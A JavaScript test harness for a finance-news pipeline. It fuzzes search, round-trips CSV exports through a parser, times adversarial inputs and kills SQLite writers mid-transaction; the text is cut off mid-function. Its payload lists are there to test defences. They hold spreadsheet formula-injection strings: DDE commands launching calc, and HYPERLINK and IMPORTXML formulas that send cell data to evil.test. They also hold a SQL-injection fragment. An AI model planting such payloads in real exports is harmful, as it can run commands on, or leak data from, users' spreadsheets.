// Reliability harness shared by the vitest suite (test/reliability/*.test.ts, small counts, library from src/)
// and bench/stress.mjs (full counts, library from dist/). Plain ESM so both can import it; types in harness.d.mts.
// Every check returns figures ({ tried, crashes, lost, worstMs, failures }) instead of asserting, so the test
// decides what to assert and the stress script prints a table.
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, rmSync, writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { dirname, join } from 'node:path';
import { performance } from 'node:perf_hooks';
import Database from 'better-sqlite3';

export const HERE = dirname(fileURLToPath(import.meta.url));
export const ROOT = join(HERE, '..', '..');
export const WORKERS = join(HERE, 'workers');

// ---------------------------------------------------------------------------------------------------------------
// Seeded PRNG (mulberry32): a failing fuzz case is reproduced from its seed and index alone.

/** @param {number} seed */
export function prng(seed) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (n) => Math.floor(next() * n);
  return {
    next,
    int,
    pick: (arr) => arr[int(arr.length)],
    chance: (p) => next() < p,
  };
}

// ---------------------------------------------------------------------------------------------------------------
// Random Unicode text with everything that has broken query builders and CSV writers before.

const PIECES = [
  '"', '""', '"""', '(((', ')))', '(', ')', 'NOT', 'AND', 'OR', 'NEAR(', 'NEAR(a b, 2)', '*', '^', ':', 'title:', 'text:',
  '-', '+', '{', '}', '[', ']', '\\', "'", '`', ';', '--', '/*', '*/', "' OR 1=1 --", '%', '_', '&', '$', '@', '#', ',',
  'S&P 500', 'AT&T', '10-K', 'BRK.B', '$AAPL', '5.25%', "Fed's", 'Fed\u2019s', 'Nvidia', 'rate cut', 'record',
  '\u0000', '\u0001', '\u001f', '\u007f', '\t', '\n', '\r\n', '\r', '\u000b', '\f',
  '\ud800', '\udfff', '\ud83d', '\ude00', '\udbff\udbff', '\ud83d\ude00', '\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67', '\ud83c\uddfa\ud83c\uddf8',
  '\u200b', '\u200d', '\u200e', '\u200f', '\u202a', '\u202b', '\u202e', '\u202c', '\u2066', '\u2067', '\u2069', '\ufeff', '\u00ad',
  '\u05e9\u05dc\u05d5\u05dd', '\u0645\u0631\u062d\u0628\u0627', 'x\u0301\u0301', '\u00a0', '\u202f', '\u3000', '\u2212', '\uff1d', '\uff11\uff12',
  '\ufffd', '\ufffe', '\uffff', '\u2028', '\u2029', 'ǅ', 'ß', 'İ', '\u{1d400}', '\u{10ffff}',
];

/** A random string of at most maxLen UTF-16 code units, mixing syntax pieces, words and random code units. */
export function randomText(rng, maxLen = 1024) {
  const target = rng.chance(0.1) ? maxLen : rng.int(rng.chance(0.5) ? 40 : maxLen);
  let s = '';
  while (s.length < target) {
    const r = rng.next();
    if (r < 0.45) s += rng.pick(PIECES);
    else if (r < 0.65) s += rng.pick(['the', 'market', 'rose', 'fell', 'a', 'in', 'NVDA', 'apple', 'S', 'P', '500', '1.2']);
    else if (r < 0.75) s += ' ';
    else if (r < 0.9) s += String.fromCharCode(rng.int(0x10000)); // any code unit, lone surrogates included
    else s += String.fromCodePoint(0x10000 + rng.int(0x100000 - 0x10000));
  }
  return s.slice(0, maxLen);
}

// ---------------------------------------------------------------------------------------------------------------
// Small articles with literal finance terms (S8) and the filters they support.

export const FINANCE_ARTICLES = [
  { key: 'S&P 500', title: 'Benchmark ends week higher', text: 'The S&P 500 rose 1.2% to close at 5,104.76 on Friday, a record.' },
  { key: 'AT&T', title: 'Telecom shares slide', text: 'Shares of AT&T fell 3% after the carrier cut its subscriber forecast.' },
  { key: '10-K', title: 'Annual report flags risks', text: 'In its annual 10-K filing, the retailer warned that tariffs could squeeze margins.' },
  { key: 'BRK.B', title: 'Conglomerate buys back stock', text: 'Berkshire Hathaway class B shares (BRK.B) gained 0.5% after the buyback news.' },
  { key: '$AAPL', title: 'Phone maker slips', text: 'Traders sold $AAPL ahead of the product event, and the stock slipped 2%.' },
  { key: '5.25%', title: 'Central bank holds', text: 'Policymakers kept the benchmark rate at 5.25% and signalled patience.' },
  { key: "Fed's", title: 'Minutes show caution', text: 'The Fed\u2019s minutes showed officials worried about sticky services inflation.' },
];

/** Articles for the search fuzz: the finance set plus a few with tags, tickers and dates for the filters. */
export const FUZZ_ARTICLES = [
  ...FINANCE_ARTICLES,
  { key: 'narrow', title: 'Nvidia lifts S&P 500 to record as small caps lag', text: 'The S&P 500 rose 0.8% to close at a record 6,912.40 as Nvidia (NVDA.O) jumped 4.1%, while the Russell 2000 fell 0.6%. "This is still a market carried by a handful of giants," said Maria Chen, chief market strategist at Harbor Point Advisors.' },
  { key: 'broad', title: 'Small caps join the rally', text: 'The Russell 2000 jumped 2.5% and the equal-weight S&P 500 outperformed as the rally broadened beyond megacaps. Traders priced in a rate cut in June after inflation cooled.' },
  { key: 'earnings', title: 'Apple beats estimates', text: 'Apple reported quarterly revenue of $94.9 billion, above estimates, and its shares rose 3% in extended trading.' },
  { key: 'unicode', title: 'Nvi\u200bdia \u2212 \u05e9\u05dc\u05d5\u05dd', text: 'Shares of Nvi\u200bdia fell (\u22122.3%) \u2067as\u2069 traders \ud83d\ude00 sold; the index rose 10\u202f% this year.' },
];

/** Build records with the pipeline's own analyze(); dates spread over 2024 so since/until filters select subsets. */
export function buildRecords(analyze, articles = FUZZ_ARTICLES) {
  return articles.map((a, i) =>
    analyze({
      source: { kind: 'file', uri: `fixture-${i}.txt` },
      title: a.title,
      url: `https://example.test/${i}`,
      publishedAt: new Date(Date.UTC(2024, i % 12, 1 + i)).toISOString(),
      text: a.text,
    }),
  );
}

// ---------------------------------------------------------------------------------------------------------------
// S7: search fuzz.

const BREADTHS = ['narrow', 'broadening', 'mixed', 'none'];

function randomFilters(rng, records) {
  const f = {};
  const tags = [...new Set(records.flatMap((r) => r.tags.map((t) => t.tag)))];
  const tickers = [...new Set(records.flatMap((r) => r.tickers.map((t) => t.symbol)))];
  if (rng.chance(0.3)) f.tag = rng.chance(0.8) && tags.length ? rng.pick(tags) : randomText(rng, 30);
  if (rng.chance(0.3)) f.ticker = rng.chance(0.8) && tickers.length ? (rng.chance(0.5) ? '$' : '') + rng.pick(tickers).toLowerCase() : randomText(rng, 12);
  if (rng.chance(0.2)) f.breadth = rng.chance(0.9) ? rng.pick(BREADTHS) : randomText(rng, 10);
  if (rng.chance(0.2)) f.since = rng.chance(0.8) ? `2024-0${1 + rng.int(9)}-01` : randomText(rng, 20);
  if (rng.chance(0.2)) f.until = rng.chance(0.8) ? `2024-${String(1 + rng.int(12)).padStart(2, '0')}-15` : randomText(rng, 20);
  return f;
}

const EXPORT_KINDS = ['articles', 'tickers', 'levels', 'moves', 'money', 'quotes', 'tags'];
const isBlank = (q) => q === undefined || q.replace(/[\s\u0000-\u001f\u007f]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '') === '';

/**
 * Random queries (and filters) through Store.search and Store.exportRows. Checks: nothing throws; a blank query
 * gives exactly the filter-only results; a non-blank one gives a subset of them.
 */
export function searchFuzz({ store, records, count, seed = 1, maxLen = 1024 }) {
  const rng = prng(seed);
  const out = { tried: 0, crashes: 0, lost: 0, worstMs: 0, worstInput: '', failures: [] };
  const fail = (i, kind, detail) => {
    if (out.failures.length < 20) out.failures.push({ seed, index: i, kind, ...detail });
  };
  const baseline = new Map();
  const filterOnly = (f) => {
    const key = JSON.stringify(f);
    if (!baseline.has(key)) baseline.set(key, store.search(undefined, f, 1000).map((h) => h.id));
    return baseline.get(key);
  };
  for (let i = 0; i < count; i++) {
    const q = rng.chance(0.05) ? rng.pick(['', ' ', '\t\n', '\u0000', ' \u0000 \r\n ', '\ud800']) : randomText(rng, maxLen);
    const f = rng.chance(0.5) ? randomFilters(rng, records) : {};
    out.tried++;
    const t0 = performance.now();
    try {
      const hits = store.search(q, f, 1000).map((h) => h.id);
      const ms = performance.now() - t0;
      if (ms > out.worstMs) (out.worstMs = ms), (out.worstInput = q);
      const allowed = filterOnly(f);
      if (isBlank(q)) {
        if (JSON.stringify(hits) !== JSON.stringify(allowed)) (out.lost++, fail(i, 'blank query is not the filter-only result', { query: q, filters: f, hits, expected: allowed }));
      } else if (hits.some((id) => !allowed.includes(id))) fail(i, 'hit outside the filters', { query: q, filters: f, hits, allowed });
      if (i % 4 === 0) {
        const kind = EXPORT_KINDS[i % EXPORT_KINDS.length];
        let n = 0;
        for (const _row of store.exportRows(kind, f, q)) n++;
        if (isBlank(q)) {
          let m = 0;
          for (const _row of store.exportRows(kind, f)) m++;
          if (n !== m) (out.lost++, fail(i, 'blank export query is not the filter-only export', { query: q, filters: f, kind, rows: n, expected: m }));
        }
      }
    } catch (e) {
      out.crashes++;
      fail(i, 'threw', { query: q, filters: f, error: String(e && e.stack ? e.stack : e) });
    }
  }
  return out;
}

// ---------------------------------------------------------------------------------------------------------------
// C1–C3: CSV export.

/** Formula-injection payloads: each must come back from csv-parse as a cell no spreadsheet would evaluate. */
export const FORMULA_PAYLOADS = [
  '=1+1', '+1+1', '-1+1', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\n=1+1', '  =1+1', '\u00a0=1+1', '\u3000=1+1',
  '\uff1d1+1', '\uff0b1', '\uff0d1', '\uff201', ' \uff1d1+1', '=cmd|\' /C calc\'!A0', '@cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://evil.test/?x="&A1,"click")', '+cmd|\'/C notepad\'!A0', '-2+3+cmd|\' /C calc\'!A0',
  '=IMPORTXML(CONCAT("http://evil.test/?v=",A1),"//a")', '=DDE("cmd";"/C calc";"!A0")', '"=1+1"', '  \t =1', '\r\n=1',
  '-', '+', '=', '@', '=\u0000', '\ufeff=1+1', '\u2028=1+1', '\u2009=1+1', '\u202f=1+1',
];

// A cell a spreadsheet would evaluate: first character after (Unicode) spaces is = + - @ (ASCII or fullwidth), or
// the cell begins with a tab or CR. Numbers in numeric columns are the only allowed exception.
export const FORMULA_CELL = /^[\s\u00a0\u3000\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]/;

const NUMERIC = ['percent', 'value', 'amount', 'score'];

const CELL_PIECES = [',', '"', '""', '\n', '\r\n', '\r', '\u0000', '\ufeff', '\ud83d\ude00', '\u202e', ' ', '=', '+', '-', '@', 'a', 'Nvidia', '1.5', "'", '\t', ';', '\u00e9', '\u05e9'];

function randomCell(rng, bigFields) {
  const r = rng.next();
  if (r < 0.1) return null;
  if (r < 0.15) return '';
  if (bigFields && r < 0.16) {
    // a 100 KB field of delimiters, quotes and line breaks
    const unit = rng.pick(['a,"b"\r\n', '"', ',', '\n', '\ud83d\ude00']);
    return unit.repeat(Math.ceil(100_000 / unit.length));
  }
  let s = '';
  const n = rng.int(rng.chance(0.2) ? 200 : 12);
  for (let i = 0; i < n; i++) s += rng.chance(0.8) ? rng.pick(CELL_PIECES) : String.fromCharCode(rng.int(0xd800));
  return s;
}

function randomNumber(rng) {
  const r = rng.next();
  if (r < 0.2) return Math.round((rng.next() - 0.5) * 2000) / 100; // -10.00 .. 10.00, like percent moves
  if (r < 0.4) return Math.round(rng.next() * 1e7) / 100; // levels
  if (r < 0.5) return rng.int(1000);
  if (r < 0.6) return (rng.next() - 0.5) * 1e-7;
  if (r < 0.7) return rng.next() * 1e21;
  if (r < 0.8) return -rng.int(10) - 0.5;
  return rng.next();
}

/** Rows shaped like export rows: text columns plus the numeric ones. */
export function randomRows(rng, n, { bigFields = true } = {}) {
  const rows = [];
  for (let i = 0; i < n; i++) {
    rows.push({
      article_id: createHash('sha1').update(String(i)).digest('hex').slice(0, 16),
      article_title: randomCell(rng, bigFields),
      subject: rng.chance(0.2) ? rng.pick(FORMULA_PAYLOADS) : randomCell(rng, bigFields),
      percent: randomNumber(rng),
      value: rng.chance(0.1) ? null : randomNumber(rng),
      evidence: randomCell(rng, bigFields),
      amount: randomNumber(rng),
      score: rng.next(),
      rule: rng.pick(['moves/verb', '=evil', '@x', '-1', 'money/symbol-amount']),
    });
  }
  return rows;
}

/** Collect what writeCsv writes. */
export async function csvOf(writeCsv, rows) {
  const { PassThrough } = await import('node:stream');
  const out = new PassThrough();
  const chunks = [];
  out.on('data', (c) => chunks.push(c));
  const n = await writeCsv(rows, out);
  out.end();
  return { n, csv: Buffer.concat(chunks.map((c) => (typeof c === 'string' ? Buffer.from(c) : c))).toString('utf8') };
}

/**
 * C1–C3: write random rows with writeCsv, parse them back with csv-parse, compare cell by cell.
 * Text cells must equal escapeCell(value) (null -> ''); numeric columns must parse back to the same number and
 * never be escaped; no text cell may look like a formula.
 */
export async function csvRoundTrip({ writeCsv, escapeCell, parse, count, seed = 1, chunk = 2000 }) {
  const rng = prng(seed);
  const out = { tried: 0, crashes: 0, lost: 0, worstMs: 0, formulaCells: 0, mismatches: 0, failures: [] };
  const fail = (detail) => {
    if (out.failures.length < 20) out.failures.push({ seed, ...detail });
  };
  for (let done = 0; done < count; done += chunk) {
    const rows = randomRows(rng, Math.min(chunk, count - done));
    const t0 = performance.now();
    let back;
    try {
      const { n, csv } = await csvOf(writeCsv, rows);
      back = parse(csv, { columns: true, cast: false, relax_column_count: false });
      if (n !== rows.length) fail({ kind: 'count', written: n, rows: rows.length });
    } catch (e) {
      out.crashes++;
      fail({ kind: 'threw', chunkStart: done, error: String(e && e.stack ? e.stack : e) });
      continue;
    }
    out.worstMs = Math.max(out.worstMs, performance.now() - t0);
    out.tried += rows.length;
    if (back.length !== rows.length) {
      out.lost += Math.abs(rows.length - back.length);
      fail({ kind: 'row count', written: rows.length, parsed: back.length });
      continue;
    }
    rows.forEach((row, i) => {
      for (const [k, v] of Object.entries(row)) {
        const got = back[i][k];
        if (typeof v === 'number') {
          if (Number(got) !== v || got.startsWith("'")) (out.mismatches++, fail({ kind: 'number', row: done + i, column: k, value: v, got }));
        } else {
          const want = v === null ? '' : String(escapeCell(v));
          if (got !== want) (out.mismatches++, fail({ kind: 'text', row: done + i, column: k, value: v.slice(0, 200), got: String(got).slice(0, 200) }));
          if (FORMULA_CELL.test(got)) (out.formulaCells++, fail({ kind: 'formula cell', row: done + i, column: k, got: got.slice(0, 80) }));
        }
      }
    });
  }
  return out;
}

// ---------------------------------------------------------------------------------------------------------------
// R2 / R4: adversarial inputs, run in a child process with a watchdog.

const NEWS_WORDS = 'the market rose 2% as Nvidia gained while investors said the Fed would cut rates and the S&P 500 closed at 5,000 with Apple shares up 1.5 percent according to analysts at Goldman Sachs who said "this rally is narrow" in a note'.split(' ');
const EXOTIC = ['\ud83d\ude00', '\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66', '\u200b', '\u200d', '\u202e', '\u2067', '\u05e9\u05dc\u05d5\u05dd ', '\u0645\u0631\u062d\u0628\u0627 ', '\u200f', '\ud83c\uddfa\ud83c\uddf8', 'x\u0301', '\u2069', ' '];

/** name -> builder of a string of n UTF-16 code units. */
export const ADVERSARIAL = {
  'digits+x': (n) => `${'1'.repeat(n - 1)}x`,
  dollars: (n) => '$'.repeat(n),
  dots: (n) => '.'.repeat(n),
  spaces: (n) => ' '.repeat(n),
  'a,': (n) => 'a,'.repeat(Math.ceil(n / 2)).slice(0, n),
  'open-parens': (n) => '('.repeat(n),
  'double-quotes': (n) => '"'.repeat(n),
  letters: (n) => 'a'.repeat(n),
  'no-periods': (n) => {
    let s = '';
    for (let i = 0; s.length < n; i++) s += `${NEWS_WORDS[i % NEWS_WORDS.length]}${i % 37 === 36 ? ', ' : ' '}`;
    return s.slice(0, n);
  },
  'emoji-zw-rtl': (n) => {
    let s = '';
    for (let i = 0; s.length < n; i++) s += EXOTIC[(i * 7 + (i >> 3)) % EXOTIC.length];
    return s.slice(0, n - 1);
  },
};

export const KB = 1024;
/** The R2 ladder: 50 / 100 / 200 KB of each pathological string. */
export const R2_INPUTS = ['digits+x', 'dollars', 'dots', 'spaces', 'a,', 'open-parens', 'double-quotes', 'letters'];
export const R2_SIZES = [50 * KB, 100 * KB, 200 * KB];
/** R4: a 1 MB article without periods (ladder up to it) and 360 KB of emoji, zero-width and RTL text. */
export const R4_LADDERS = { 'no-periods': [256 * KB, 512 * KB, 1024 * KB], 'emoji-zw-rtl': [90 * KB, 180 * KB, 360 * KB] };

/** Stages the extract worker runs, in order: analyze() first, while the text is new to wink-nlp; then each extractor on a plain doc, so each is measured alone. */
export const STAGES = ['analyze', 'segment', 'extract:indices', 'extract:tickers', 'extract:levels', 'extract:moves', 'extract:money', 'extract:quotes', 'tag'];

/**
 * Run jobs [{input, size, stages?, reps?}] in worker processes (one for all jobs, or one per job with isolate:
 * wink-nlp caches the tokens it has seen, so a stage measured after another on the same text in the same process
 * can look faster than a user would find it). A watchdog kills a worker when one stage runs longer than
 * stageTimeoutMs; the hung stage is reported, skipped for larger sizes of the same input, and the remaining jobs
 * run in a fresh worker. Returns every measurement {input, size, stage, ms | null, status: ok | timeout | error}.
 */
export async function runExtractJobs({ jobs, stageTimeoutMs = 10_000, isolate = false, onResult = () => {} }) {
  const results = [];
  const record = (r) => (results.push(r), onResult(r));
  let queue = jobs.map((j) => ({ ...j, stages: j.stages ?? STAGES }));
  while (queue.length) {
    const take = isolate ? 1 : queue.length;
    const { done, hung, error } = await runWorker(queue.slice(0, take), stageTimeoutMs, record);
    if (!hung && !error) {
      queue = queue.slice(take);
      continue;
    }
    const at = hung ?? error;
    record({ input: at.input, size: at.size, stage: at.stage, ms: hung ? stageTimeoutMs : null, status: hung ? 'timeout' : 'error', error: error?.message });
    queue = queue.slice(done);
    // the job that was running goes on after the failed stage, in a fresh worker
    const cur = queue[0];
    if (cur && cur.input === at.input && cur.size === at.size) {
      const idx = cur.stages.indexOf(at.stage);
      queue[0] = { ...cur, stages: cur.stages.slice(idx + 1), skip: [...(cur.skip ?? []), at.stage] };
      if (!queue[0].stages.length) queue.shift();
    }
    // a stage that hung at one size would hang at larger ones: skip it there
    queue = queue
      .map((j) => (j.input === at.input && j.size > at.size ? { ...j, stages: j.stages.filter((st) => st !== at.stage), skip: [...(j.skip ?? []), at.stage] } : j))
      .filter((j) => j.stages.length);
  }
  return results;
}

function runWorker(jobs, stageTimeoutMs, onResult) {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [join(WORKERS, 'extract.mjs')], { stdio: ['pipe', 'pipe', 'pipe'] });
    child.stdin.end(JSON.stringify(jobs));
    let buf = '';
    let err = '';
    let current = null;
    let done = 0;
    let timer = null;
    let hung = null;
    const arm = () => {
      clearTimeout(timer);
      timer = setTimeout(() => {
        hung = current;
        child.kill('SIGKILL');
      }, stageTimeoutMs + (current ? 0 : 30_000)); // the first arm also covers the worker's start-up
    };
    arm();
    child.stdout.on('data', (d) => {
      buf += d;
      let nl;
      while ((nl = buf.indexOf('\n')) >= 0) {
        const line = buf.slice(0, nl);
        buf = buf.slice(nl + 1);
        if (!line.trim()) continue;
        const m = JSON.parse(line);
        if (m.event === 'start') current = m;
        else if (m.event === 'done') {
          current = null;
          onResult({ input: m.input, size: m.size, stage: m.stage, ms: m.ms, status: m.status, items: m.items, error: m.error ?? undefined, skip: m.skip ?? [] });
        } else if (m.event === 'job-done') done++;
        arm();
      }
    });
    child.stderr.on('data', (d) => (err += d));
    child.on('close', (code, signal) => {
      clearTimeout(timer);
      if (hung) resolve({ done, hung });
      else if (code !== 0) resolve({ done, error: { ...(current ?? { input: jobs[done]?.input, size: jobs[done]?.size, stage: 'worker' }), message: `exit ${code ?? signal}: ${err.slice(-2000)}` } });
      else resolve({ done });
    });
  });
}

/** Summarise R2/R4 measurements: worst time and t(big)/t(small) ratio per (input, stage). */
export function ladderRatios(results) {
  const by = new Map();
  for (const r of results) {
    const k = `${r.input}\u0000${r.stage}`;
    if (!by.has(k)) by.set(k, []);
    by.get(k).push(r);
  }
  const rows = [];
  for (const [k, rs] of by) {
    const [input, stage] = k.split('\u0000');
    rs.sort((a, b) => a.size - b.size);
    const ok = rs.filter((r) => r.status === 'ok');
    const last = ok[ok.length - 1];
    const prev = ok[ok.length - 2];
    // the skipped (hung) extractors whose results this stage would have read: those earlier in STAGES
    const missing = (r) => JSON.stringify((r.skip ?? []).filter((x) => x.startsWith('extract:') && STAGES.indexOf(x) < STAGES.indexOf(r.stage)));
    // a ratio compares like with like: both runs saw the results of the same earlier stages
    const same = last && prev && missing(last) === missing(prev);
    const ratio = same && last.size === 2 * prev.size ? last.ms / Math.max(prev.ms, 1) : null;
    // "*": measured without the results of an earlier extractor that hung at this size
    const show = (r) => (r.status === 'ok' ? `${Math.round(r.ms)}${missing(r) !== '[]' ? '*' : ''}` : r.status);
    rows.push({ input, stage, sizes: rs.map((r) => r.size), ms: rs.map(show), ratio, failed: rs.some((r) => r.status !== 'ok') });
  }
  return rows;
}

// ---------------------------------------------------------------------------------------------------------------
// Child processes for the storage rows.

/** Spawn `node script ...args`, collect output, kill after timeoutMs. */
export function runNode(script, args, { timeoutMs = 60_000, env = {}, onStdout } = {}) {
  return new Promise((resolve) => {
    const t0 = performance.now();
    const child = spawn(process.execPath, [script, ...args], { stdio: ['ignore', 'pipe', 'pipe'], env: { ...process.env, ...env } });
    let stdout = '';
    let stderr = '';
    let timedOut = false;
    const timer = setTimeout(() => {
      timedOut = true;
      child.kill('SIGKILL');
    }, timeoutMs);
    child.stdout.on('data', (d) => {
      stdout += d;
      onStdout?.(String(d), child);
    });
    child.stderr.on('data', (d) => (stderr += d));
    child.on('close', (code, signal) => {
      clearTimeout(timer);
      resolve({ code, signal, stdout, stderr, timedOut, ms: performance.now() - t0, child });
    });
  });
}

/** Acknowledged batches in a writer's stdout: lines "ack <proc> <batch> <version>". */
export function acks(stdout) {
  return stdout
    .split('\n')
    .filter((l) => l.startsWith('ack '))
    .map((l) => {
      const [, proc, batch, version] = l.split(' ');
      return { proc: Number(proc), batch: Number(batch), version: Number(version) };
    });
}

/** Records per batch and child rows per record written by workers/writer.mjs (kept in step with it). */
export const BATCH_RECORDS = 4;
export const CHILD_ROWS = { tickers: 2, indices: 1, levels: 1, moves: 3, money: 1, quotes: 1, tags: 2 };

/**
 * Check a database written by workers/writer.mjs: SQLite and FTS5 integrity, every acknowledged batch present
 * with the acknowledged version or a later one, no batch partial (all its records, all their child rows, one
 * version across the batch, each record findable by its own FTS token). Returns a list of violations.
 */
export function checkWriterDb(db, acked) {
  const violations = [];
  const ic = db.pragma('integrity_check', { simple: true });
  if (ic !== 'ok') violations.push(`integrity_check: ${ic}`);
  try {
    db.exec("INSERT INTO articles_fts(articles_fts) VALUES('integrity-check')");
  } catch (e) {
    violations.push(`fts integrity-check: ${e.message}`);
  }
  const rows = db.prepare("SELECT id, source_uri, title, text FROM articles WHERE source_uri LIKE 'writer:%'").all();
  const batches = new Map();
  for (const r of rows) {
    const [, proc, batch, k] = r.source_uri.split(':');
    const version = / version (\d+)$/.exec(r.title)?.[1] ?? 'none';
    const key = `${proc}:${batch}`;
    if (!batches.has(key)) batches.set(key, []);
    batches.get(key).push({ ...r, k: Number(k), version: Number(version) });
  }
  const count = {};
  for (const t of Object.keys(CHILD_ROWS)) {
    count[t] = new Map(db.prepare(`SELECT article_id AS id, count(*) AS n FROM ${t} GROUP BY article_id`).all().map((x) => [x.id, x.n]));
  }
  const fts = db.prepare('SELECT count(*) AS n FROM articles_fts WHERE articles_fts MATCH ?');
  for (const [key, recs] of batches) {
    if (recs.length !== BATCH_RECORDS) violations.push(`batch ${key}: ${recs.length} of ${BATCH_RECORDS} records`);
    const versions = new Set(recs.map((r) => r.version));
    if (versions.size !== 1) violations.push(`batch ${key}: mixed versions ${[...versions].join(',')}`);
    for (const r of recs) {
      for (const [t, n] of Object.entries(CHILD_ROWS)) {
        const got = count[t].get(r.id) ?? 0;
        if (got !== n) violations.push(`record ${r.source_uri}: ${got} ${t} rows, expected ${n}`);
      }
      const token = `t${key.replace(':', 'x')}x${r.k}v${r.version}`;
      if (!r.text.includes(token)) violations.push(`record ${r.source_uri}: text does not carry its version token`);
      else if (fts.get(`"${token}"`).n !== 1) violations.push(`record ${r.source_uri}: FTS does not find ${token}`);
    }
  }
  for (const a of acked) {
    const recs = batches.get(`${a.proc}:${a.batch}`);
    if (!recs) violations.push(`acknowledged batch ${a.proc}:${a.batch} is missing`);
    else if (recs.some((r) => r.version < a.version)) violations.push(`acknowledged batch ${a.proc}:${a.batch} v${a.version} rolled back`);
  }
  return { violations, batches: batches.size, records: rows.length };
}

/** The schema as text, for comparing two opens. */
export function schemaOf(db) {
  return db
    .prepare("SELECT type, name, tbl_name, sql FROM sqlite_master WHERE name NOT LIKE 'sqlite_%' ORDER BY type, name")
    .all()
    .map((r) => `${r.type} ${r.name} ${r.tbl_name} ${r.sql}`)
    .join('\n');
}

// ---------------------------------------------------------------------------------------------------------------
// S1, S3, S10 drivers (the workers import dist/, so `npm ci` — whose prepare step builds — must have run).


export function requireDist() {
  if (!existsSync(join(ROOT, 'dist', 'index.js'))) throw new Error('dist/ is missing: run `npm run build` (npm ci runs it) before the reliability tests');
}

const WRITER = join(WORKERS, 'writer.mjs');
export const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

/**
 * S1: start an ingest loop (workers/writer.mjs --mode loop), SIGKILL it at a random moment, check the database
 * (checkWriterDb with every batch acknowledged so far), repeat. `openStore` opens the file for the checks.
 */
export async function killLoop({ openStore, db, kills, seed = 1, minMs = 20, maxMs = 400 }) {
  const rng = prng(seed);
  const acked = [];
  const out = { tried: 0, crashes: 0, lost: 0, worstMs: 0, acked: 0, failures: [] };
  for (let i = 0; i < kills; i++) {
    const delay = minMs + rng.int(maxMs - minMs);
    let started = false;
    const run = await runNode(WRITER, ['--db', db, '--mode', 'loop', '--proc', '0', '--seed', String(seed * 1000 + i)], {
      timeoutMs: 60_000,
      onStdout: (chunk, child) => {
        // start the clock once the worker is past its start-up, so the kill lands inside the write loop
        if (!started && chunk.includes('ready')) {
          started = true;
          setTimeout(() => child.kill('SIGKILL'), delay);
        }
      },
    });
    out.tried++;
    acked.push(...acks(run.stdout));
    if (run.signal !== 'SIGKILL' || run.timedOut) {
      out.crashes++;
      if (out.failures.length < 20) out.failures.push({ kill: i, code: run.code, signal: run.signal, stderr: run.stderr.slice(-2000) });
    }
    const t0 = performance.now();
    let store;
    try {
      store = openStore(db);
      const { violations } = checkWriterDb(store.db, acked);
      out.lost += violations.length;
      for (const v of violations.slice(0, 5)) if (out.failures.length < 20) out.failures.push({ kill: i, delayMs: delay, violation: v });
    } catch (e) {
      out.crashes++;
      if (out.failures.length < 20) out.failures.push({ kill: i, delayMs: delay, reopen: String(e) });
    } finally {
      store?.close();
    }
    out.worstMs = Math.max(out.worstMs, performance.now() - t0);
  }
  out.acked = acked.length;
  return out;
}

/**
 * S3: `procs` writer processes each commit `batches` batches to the same file at once (racing its creation when it
 * does not exist yet); with holdMs, another process first takes the write lock and keeps it that long.
 */
export async function concurrentWriters({ openStore, db, procs, batches, holdMs = 0 }) {
  const out = { tried: procs * batches, crashes: 0, lost: 0, worstMs: 0, busy: 0, failures: [] };
  let holder = null;
  if (holdMs) {
    let locked;
    const ready = new Promise((r) => (locked = r));
    holder = runNode(WRITER, ['--db', db, '--mode', 'hold', '--ms', String(holdMs)], { onStdout: (c) => c.includes('locked') && locked() });
    await Promise.race([ready, holder]);
  }
  const runs = await Promise.all(Array.from({ length: procs }, (_, p) => runNode(WRITER, ['--db', db, '--mode', 'write', '--proc', String(p), '--batches', String(batches)], { timeoutMs: 120_000 })));
  if (holder) {
    const h = await holder;
    if (h.code !== 0) (out.crashes++, out.failures.push({ holder: true, code: h.code, stderr: h.stderr.slice(-2000) }));
  }
  const acked = [];
  runs.forEach((r, p) => {
    out.worstMs = Math.max(out.worstMs, r.ms);
    acked.push(...acks(r.stdout));
    if (/SQLITE_BUSY|database is locked/i.test(r.stderr)) out.busy++;
    if (r.code !== 0) (out.crashes++, out.failures.push({ proc: p, code: r.code, signal: r.signal, stderr: r.stderr.slice(-2000) }));
  });
  const store = openStore(db);
  try {
    const { violations, records } = checkWriterDb(store.db, acked);
    out.lost = procs * batches - acked.length + violations.length;
    if (records !== procs * batches * BATCH_RECORDS) out.failures.push({ records, expected: procs * batches * BATCH_RECORDS });
    out.failures.push(...violations.slice(0, 10).map((v) => ({ violation: v })));
  } finally {
    store.close();
  }
  return out;
}

/**
 * S10: create a fresh database in a child and SIGKILL it at a random moment around the migration; the file left
 * behind must open, with exactly the reference schema. Returns how many kills landed before the open finished.
 */
export async function killMidOpen({ openStore, dir, times, seed = 1, reference }) {
  const rng = prng(seed);
  const out = { tried: 0, crashes: 0, lost: 0, worstMs: 0, midOpen: 0, failures: [] };
  // the schema version a completed open reaches: that of a database this code creates undisturbed
  const fresh = openStore(join(dir, 'mid-open-reference.db'));
  const expectedVersion = fresh.db.pragma('user_version', { simple: true });
  fresh.close();
  for (let i = 0; i < times; i++) {
    const db = join(dir, `mid-open-${i}.db`);
    for (const suffix of ['', '-wal', '-shm']) rmSync(db + suffix, { force: true });
    const delay = rng.int(12);
    const run = await runNode(WRITER, ['--db', db, '--mode', 'open'], {
      onStdout: (chunk, child) => {
        if (chunk.includes('opening')) {
          if (delay === 0) child.kill('SIGKILL');
          else setTimeout(() => child.kill('SIGKILL'), delay);
        }
      },
    });
    out.tried++;
    if (!run.stdout.includes('opened')) out.midOpen++;
    if (run.code !== null && run.code !== 0) (out.crashes++, out.failures.push({ i, code: run.code, stderr: run.stderr.slice(-1000) }));
    const t0 = performance.now();
    let store;
    try {
      store = openStore(db);
      const schema = schemaOf(store.db);
      const version = store.db.pragma('user_version', { simple: true });
